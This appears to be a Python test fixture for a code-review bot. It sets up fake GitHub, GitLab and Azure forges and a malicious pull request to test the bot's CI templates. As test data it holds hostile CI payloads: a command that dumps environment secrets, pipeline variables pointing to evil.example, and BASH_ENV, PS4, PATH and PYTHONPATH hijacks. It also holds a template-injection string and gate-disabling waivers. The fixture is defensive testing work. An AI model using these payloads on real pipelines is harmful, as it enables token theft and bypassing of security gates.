"""The three fakes with git behind the same address, and the pull requests that the templates are tried on."""

import base64
import os
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1] / "forges"))

from fakes.azure import CONTRIBUTE, READ, FakeAzure
from fakes.github import FakeGitHub
from fakes.gitlab import FakeGitLab
from fakes.repo import Repo
from fakes.wire import Reply

from reviewbot import shipped

TEMPLATES = shipped.folder("pipelines")
KEYS = "a-key-for-markers-of-32-characters!"
FLAW = b"import requests\n\n\ndef fetch(url):\n    return requests.get(url, verify=False, timeout=5)\n"
STEAL = "env; cat /proc/self/environ; reviewbot publish review --snapshot snapshot"


class WithGit:
    """Serves the bare repository over smart HTTP too, to the tokens in `readers`; `fetched` says which came."""

    def serve(self, entry):
        for end in ("/info/refs", "/git-upload-pack"):
            if entry.raw_path.endswith(end):
                return self._git(entry, end), None
        return super().serve(entry)

    def _git(self, entry, end):
        kind, _, value = entry.headers.get("authorization", "").partition(" ")
        token = base64.b64decode(value).decode().partition(":")[2] if kind.lower() == "basic" else value
        self.fetched.append((token, entry.raw_path.removesuffix(end)))
        if token not in self.readers:
            return Reply(401, b"no", {"WWW-Authenticate": 'Basic realm="git"'}, "text/plain")
        environ = {
            "PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": str(self.repo.path), "GIT_HTTP_EXPORT_ALL": "1",
            "PATH_INFO": end, "REQUEST_METHOD": entry.method, "CONTENT_LENGTH": str(len(entry.raw)),
            "QUERY_STRING": "&".join(f"{key}={word}" for key, word in entry.query.items()),
            "CONTENT_TYPE": entry.headers.get("content-type", ""), "GIT_CONFIG_COUNT": "1",
            "HTTP_CONTENT_ENCODING": entry.headers.get("content-encoding", ""),
            "GIT_PROTOCOL": entry.headers.get("git-protocol", ""),
            "GIT_CONFIG_KEY_0": "safe.directory", "GIT_CONFIG_VALUE_0": "*",
        }  # fmt: skip
        done = subprocess.run(
            ["git", "http-backend"], input=entry.raw, env=environ, capture_output=True, check=True
        )
        head, _, body = done.stdout.partition(b"\r\n\r\n")
        headers = dict(line.split(": ", 1) for line in head.decode().split("\r\n"))
        status = int(headers.pop("Status", "200").split()[0])
        return Reply(status, body, headers, headers.pop("Content-Type"))


class GitLab(WithGit, FakeGitLab):
    pass


class GitHub(WithGit, FakeGitHub):
    pass


class Azure(WithGit, FakeAzure):
    pass


FORGES = {"gitlab": GitLab, "github": GitHub, "azure": Azure}


class Scene:
    """A forge with `main`, and a request whose head has a flaw and edits every file that it can reach.

    `bot` and its `write` token are the publisher's, `read` may only read, `job` is the CI's own token.
    """

    def __init__(self, kind, place, *, fork=False):
        self.kind, self.place = kind, place
        repo = Repo.create(place / "ledger.git")
        base = {"app/a.py": b"import os\n", **installed(kind)}
        first = repo.commit("main", base, message="base")
        repo.commit("topic", {"app/a.py": FLAW, **hostile(kind)}, parents=(first,), message="topic")
        self.fake = FORGES[kind](repo.path)
        self.fake.fetched, self.person = [], self.fake.add_user("eve")
        self.bot = self.fake.add_user("reviewbot", is_bot=True)
        self.ci = self.fake.add_user("ci", is_bot=True)
        self._tokens()
        more = {"github": {"fork": "eve/ledger"}, "azure": {"fork": True}}.get(kind, {}) if fork else {}
        self.number = self.fake.open_pull_request("topic", "main", self.person, **more)
        self.head = repo.resolve("topic")
        if kind == "azure":
            merge = self.fake.environment(self.number)["BUILD_SOURCEVERSION"]
            repo.set_ref(f"refs/pull/{self.number}/merge", merge)
        self.fake.readers = {self.read, self.job}

    def _tokens(self):
        add = self.fake.add_token
        if self.kind == "gitlab":
            self.write = add(self.bot, {"api"}, role="developer", text="glpat-write-token")
            self.read = add(
                self.bot, {"read_api", "read_repository"}, role="reporter", text="glpat-read-token"
            )
            self.job = add(self.person, set(), kind="job", text="glcbt-job-token")
        elif self.kind == "github":
            app = {"pull_requests:write", "statuses:write", "contents:write", "metadata:read"}
            self.write = add(self.bot, app, text="ghs_write_token")
            self.read = add(
                self.ci, {"contents:read", "pull_requests:read", "metadata:read"}, text="ghs_read_token"
            )
            self.job = add(self.ci, {"statuses:write", "metadata:read"}, text="ghs_head_token")
        else:
            self.write = add(self.bot, {READ, CONTRIBUTE}, text="pat-write-token")
            self.read = self.job = add(self.ci, {READ}, kind="job", text="azure-job-token")

    @property
    def api(self):
        path = {"gitlab": "/api/v4", "github": "/api/v3", "azure": "/DefaultCollection"}[self.kind]
        return self.fake.url + path

    @property
    def repository(self):
        return "Pay/ledger" if self.kind == "azure" else "pay/ledger"

    def ours(self):
        """Threads of the bot: those on a file, and the others."""
        who = self.bot if self.kind == "azure" else "reviewbot"
        found = [
            thread for thread in self.fake.threads(self.number) if thread["authors"][0] in {who, self.bot}
        ]
        return [each for each in found if each["path"]], [each for each in found if not each["path"]]

    def statuses(self):
        """States that were set on the head, whoever set them."""
        return [status["state"] for status in self.fake.statuses(self.head)]


def installed(kind):
    """The files that a team has on its default branch."""
    text = {name: (TEMPLATES / name).read_bytes() for name in (
        "github/request.yml", "github/reviewbot.yml", "azure/azure-pipelines.yml")}  # fmt: skip
    return {
        "gitlab": {".gitlab-ci.yml": b"include:\n  - {project: security/reviewbot-templates, file: gitlab/request.gitlab-ci.yml}\n"},
        "github": {
            ".github/workflows/reviewbot-request.yml": text["github/request.yml"],
            ".github/workflows/reviewbot.yml": text["github/reviewbot.yml"],
        },
        "azure": {"azure-pipelines-reviewbot.yml": text["azure/azure-pipelines.yml"]},
    }[kind]  # fmt: skip


def hostile(kind):
    """What a head writes to get at a token, or past the gate."""
    workflow = f"on: [pull_request]\njobs: {{publish: {{runs-on: x, environment: reviewbot, steps: [{{run: '{STEAL}'}}]}}}}\n"
    gitlab = f"publish:\n  environment: reviewbot/publish\n  script: ['{STEAL}']\n"
    azure = (TEMPLATES / "azure/azure-pipelines.yml").read_text() + AZURE_VARIABLES
    return {
        ".gitlab-ci.yml": gitlab.encode(),
        ".github/workflows/reviewbot.yml": workflow.encode(),
        ".github/workflows/reviewbot-request.yml": workflow.encode(),
        "azure-pipelines-reviewbot.yml": azure.encode() if kind == "azure" else b"trigger: none\n",
        "pipelines/gitlab/reviewbot.gitlab-ci.yml": gitlab.encode(),
        ".reviewbot.yml": b"version: 1\ngate: {fail_on: never, incomplete: report}\ncoverage: {exclude: ['**']}\n",
        ".reviewbot/waivers.yml": b"waivers: [{rule: '*', path: '**', until: 2099-01-01}]\n",
        "etc/reviewbot/policy.yml": b"version: 1\ngate: {fail_on: never}\nallow: [policy, fail-on]\n",
        "templates/comment.md": b"{{ cycler.__init__.__globals__.os.environ }}\n",
        "rules/python-security/pack.yml": b"id: python-security\nversion: 9\n",
        ".bandit": b"[bandit]\nskips: B501\n",
        "CODEOWNERS": b"* @eve\n",
        "sitecustomize.py": b"import os\nprint(os.environ)\n",
    }  # fmt: skip


AZURE_VARIABLES = """variables:
  REVIEWBOT_FORGE: azure
  REVIEWBOT_FORGE_URL: https://evil.example/DefaultCollection
  REVIEWBOT_FORGE_REPOSITORY: Evil/ledger
  REVIEWBOT_FORGE_REMOTE: https://evil.example/Evil/_git/ledger
  REVIEWBOT_FAIL_ON: never
  REVIEWBOT_UNSANDBOXED: 1
  REVIEWBOT_POLICY: /tmp/evil.yml
  BASH_ENV: HOSTILE/bash_env
  ENV: HOSTILE/bash_env
  SHELLOPTS: xtrace
  PS4: "$(touch HOSTILE/ran-ps4)"
  PATH: HOSTILE/bin:/usr/bin:/bin
  PYTHONPATH: HOSTILE
  TAR_OPTIONS: --to-command=HOSTILE/bin/tar
  KEPT: REVIEWBOT_FAIL_ON REVIEWBOT_POLICY PYTHONPATH
"""
"""Variables that a pipeline may set although it extends the template. HOSTILE is a folder of the attacker's."""
